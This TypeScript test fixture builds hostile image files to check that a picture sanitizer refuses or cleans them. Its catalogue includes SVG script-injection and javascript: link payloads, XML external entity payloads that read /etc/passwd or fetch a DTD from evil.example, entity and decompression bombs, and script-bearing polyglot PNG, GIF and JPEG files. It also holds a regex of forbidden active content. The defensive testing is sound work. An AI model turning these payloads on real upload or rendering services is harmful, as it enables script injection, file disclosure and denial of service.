import { deflateSync } from 'node:zlib'
import { flatPng, gif, PNG_SIGNATURE, picture, pngChunk, SECRET, sharpIfInstalled, svg } from './pictures.ts'

/** Text that must not be in any picture that is served. */
export const ACTIVE =
  /<script|javascript:|onload|onclick|foreignObject|@import|evil\.example|<!ENTITY|<!DOCTYPE/i

export interface HostilePicture {
  readonly bytes: Uint8Array
  /** What becomes of it when it is read as a picture. */
  readonly expected: 'refused' | 'cleaned' | 'either'
}

/** Files that attack what reads pictures, by name. */
export async function hostilePictures(): Promise<Readonly<Record<string, HostilePicture>>> {
  const refused = (bytes: Uint8Array): HostilePicture => ({ bytes, expected: 'refused' })
  const cleaned = (bytes: Uint8Array): HostilePicture => ({ bytes, expected: 'cleaned' })
  const script = Buffer.from('<script>alert(document.domain)</script>')
  const jpeg = await picture({ width: 64, height: 48, format: 'jpeg', hasMetadata: true, orientation: 6 })
  const png = await picture({ width: 64, height: 48, format: 'png', hasMetadata: true })
  const webp = await picture({ width: 64, height: 48, format: 'webp', hasMetadata: true })
  const avif = await picture({ width: 64, height: 48, format: 'avif', hasMetadata: true })
  const progressive = await picture({ width: 64, height: 48, format: 'jpeg', progressive: true })
  const cut = (bytes: Buffer, share: number) => refused(bytes.subarray(0, Math.floor(bytes.length * share)))
  const svgs: Readonly<Record<string, Uint8Array>> = {
    'svg-script.svg': svg('<script>alert(1)</script>'),
    'svg-script-cdata.svg': svg('<script><![CDATA[alert(1)]]></script>'),
    'svg-onload.svg': svg('<rect/>', 'viewBox="0 0 1 1" onload="alert(1)"'),
    'svg-onclick.svg': svg('<g onclick="alert(1)"><rect/></g>'),
    'svg-foreign-object.svg': svg(
      '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>',
    ),
    'svg-link.svg': svg('<a xlink:href="javascript:alert(1)"><rect/></a>'),
    'svg-link-spaced.svg': svg('<a href=" java&#10;script:alert(1)"><rect/></a>'),
    'svg-image.svg': svg('<image href="https://evil.example/a.png"/>'),
    'svg-image-svg.svg': svg('<image href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Pg=="/>'),
    'svg-use.svg': svg('<use xlink:href="https://evil.example/a.svg#x"/>'),
    'svg-import.svg': svg('<style>@import url(//evil.example/a.css);</style>'),
    'svg-import-escaped.svg': svg('<style>@\\69mport "//evil.example/a.css";</style>'),
    'svg-style-url.svg': svg('<rect style="fill:url(https://evil.example/#a)"/>'),
    'svg-fill-url.svg': svg('<rect fill="url(  \'https://evil.example/#a\')"/>'),
    'svg-set-href.svg': svg('<set attributeName="href" to="javascript:alert(1)"/>'),
    'svg-animate-href.svg': svg('<a><animate attributeName="xlink:href" values="javascript:alert(1)"/></a>'),
    'svg-style-escape.svg': svg('<style>a{}&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>'),
    'svg-attribute-escape.svg': svg('<rect id="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
    'svg-handler.svg': svg(
      '<handler type="text/javascript">alert(1)</handler><iframe src="x"/><embed src="x"/>',
    ),
    'svg-comment.svg': svg(`<!-- ${SECRET} --><metadata>${SECRET}</metadata><?x ${SECRET}?>`),
    'svg-prefix.svg': svg('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
    'svg-prefix-svg.svg': svg('<svg:script>alert(1)</svg:script>'),
    'svg-stylesheet.svg': Buffer.concat([Buffer.from('<?xml-stylesheet href="//evil.example"?>'), svg('')]),
    'svg-entity.svg': withDoctype('<!ENTITY x "<script>alert(1)</script>">', '<text>&x;</text>'),
    'svg-file-entity.svg': withDoctype('<!ENTITY x SYSTEM "file:///etc/passwd">', '<text>&x;</text>'),
    'svg-foreign-entity.svg': withDoctype('<!ENTITY % x SYSTEM "http://evil.example/a.dtd"> %x;', ''),
    'svg-entity-bomb.svg': withDoctype(entityBomb(), '<text>&l9;</text>'),
    'svg-utf16.svg': Buffer.from(`\ufeff${svg('<script>alert(1)</script>')}`, 'utf16le'),
  }
  return {
    ...Object.fromEntries(
      Object.entries(svgs).map(([name, bytes]) => [
        name,
        { bytes, expected: name === 'svg-utf16.svg' ? 'refused' : 'cleaned' },
      ]),
    ),
    'svg-use-bomb.svg': refused(svg(useBomb())),
    'svg-deep.svg': refused(svg(`${'<g>'.repeat(50_000)}${'</g>'.repeat(50_000)}`)),
    'svg-unclosed.svg': refused(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><g>')),
    'svg-huge.svg': refused(svg('', 'width="100000" height="100000"')),
    'svg-large.svg': refused(svg(' '.repeat(6_000_000))),
    'svg-brackets.svg': refused(svg('<'.repeat(200_000))),
    'svg-doctypes.svg': refused(Buffer.from(`<!DOCTYPE svg [${'<!--'.repeat(200_000)}`)),
    'svg-two-roots.svg': refused(Buffer.concat([svg(''), svg('<script>1</script>')])),
    'html.png': refused(Buffer.concat([Buffer.from('<!doctype html>'), script])),
    'html-svg.svg': refused(Buffer.from('<html><svg xmlns="http://www.w3.org/2000/svg"></svg></html>')),
    'script.gif': refused(Buffer.from('GIF89a/*\0\0\0*/=1;alert(1)')),
    'png-bomb.png': refused(flatPng(30_000, 30_000)),
    'png-wide.png': refused(flatPng(100_000, 1)),
    'png-tall.png': refused(flatPng(1, 100_000)),
    'png-lying.png': refused(lyingPng(4_000, 4_000)),
    'png-empty.png': refused(flatPng(0, 0)),
    'png-no-end.png': refused(Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', Buffer.alloc(13))])),
    'png-long-chunk.png': refused(Buffer.concat([PNG_SIGNATURE, Buffer.from('ffffffff49484452', 'hex')])),
    'png-text-bomb.png': cleaned(
      flatPng(30, 20, [
        pngChunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(50_000_000))])),
      ]),
    ),
    'png-script.png': cleaned(
      flatPng(30, 20, [pngChunk('tEXt', Buffer.concat([Buffer.from('a\0'), script]))]),
    ),
    'png-exif.png': cleaned(png),
    'png-zip.png': cleaned(Buffer.concat([flatPng(30, 20), Buffer.from('PK\x03\x04'), script])),
    'png-cut.png': cut(png, 0.5),
    'gif-frames.gif': refused(gif(5_000)),
    'gif-bomb.gif': refused(gif(999, { size: 30_000 })),
    'gif-comment.gif': cleaned(gif(2, { comment: `${SECRET}${script}`.slice(0, 200) })),
    'gif-cut.gif': cut(gif(3), 0.7),
    'jpeg-exif.jpg': cleaned(jpeg),
    'jpeg-script.jpg': cleaned(Buffer.concat([jpeg, script])),
    'jpeg-pdf.jpg': cleaned(Buffer.concat([jpeg, Buffer.from('%PDF-1.7'), script])),
    'pdf-jpeg.jpg': refused(Buffer.concat([Buffer.from('%PDF-1.7\n'), jpeg])),
    'zip-jpeg.jpg': refused(Buffer.concat([Buffer.from('PK\x03\x04'), jpeg])),
    'jpeg-cut-10.jpg': cut(jpeg, 0.1),
    'jpeg-cut-50.jpg': cut(jpeg, 0.5),
    'jpeg-cut-99.jpg': cut(jpeg, 0.99),
    'jpeg-scans.jpg': refused(manyScans(progressive)),
    'jpeg-cmyk.jpg': cleaned(await cmykJpeg()),
    'webp-exif.webp': cleaned(webp),
    'webp-cut.webp': cut(webp, 0.8),
    'webp-long.webp': refused(
      Buffer.concat([Buffer.from('RIFF\xff\xff\xff\x7fWEBPVP8 ', 'latin1'), Buffer.alloc(20)]),
    ),
    'avif-exif.avif': cleaned(avif),
    'avif-cut.avif': cut(avif, 0.6),
    'avif-empty.avif': refused(Buffer.from('\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf')),
    'noise.jpg': { bytes: flipped(jpeg), expected: 'either' },
    'noise.png': { bytes: flipped(png), expected: 'either' },
    'noise.webp': { bytes: flipped(webp), expected: 'either' },
    'noise.avif': { bytes: flipped(avif), expected: 'either' },
  }
}

function withDoctype(declarations: string, inside: string): Buffer {
  return Buffer.concat([Buffer.from(`<?xml version="1.0"?><!DOCTYPE svg [${declarations}]>`), svg(inside)])
}

function entityBomb(): string {
  const levels = Array.from(
    { length: 9 },
    (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
  )
  return `<!ENTITY l0 "ha">${levels.join('')}`
}

function useBomb(): string {
  const levels = Array.from({ length: 9 }, (_, level) => {
    const uses = `<use href="#l${level}"/>`.repeat(10)
    return `<g id="l${level + 1}">${uses}</g>`
  })
  return `<rect id="l0" width="1" height="1"/>${levels.join('')}`
}

/** Says that it is large, and has the pixels of a row. */
function lyingPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 8
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(width))),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** Repeats the last scan of a progressive picture, each of which is decoded over all of its pixels. */
function manyScans(jpeg: Buffer): Buffer {
  const last = jpeg.lastIndexOf(Buffer.from([0xff, 0xda]))
  const scan = jpeg.subarray(last, jpeg.length - 2)
  return Buffer.concat([
    jpeg.subarray(0, last),
    ...Array.from({ length: 5_000 }, () => scan),
    jpeg.subarray(-2),
  ])
}

async function cmykJpeg(): Promise<Buffer> {
  const sharp = await sharpIfInstalled()
  return sharp({ create: { width: 64, height: 48, channels: 3, background: '#408020' } })
    .toColourspace('cmyk')
    .jpeg()
    .toBuffer()
}

/** Every 97th byte after the first 40 is another one. */
function flipped(bytes: Buffer): Buffer {
  return Buffer.from(bytes.map((byte, index) => (index > 40 && index % 97 === 0 ? byte ^ 0x55 : byte)))
}
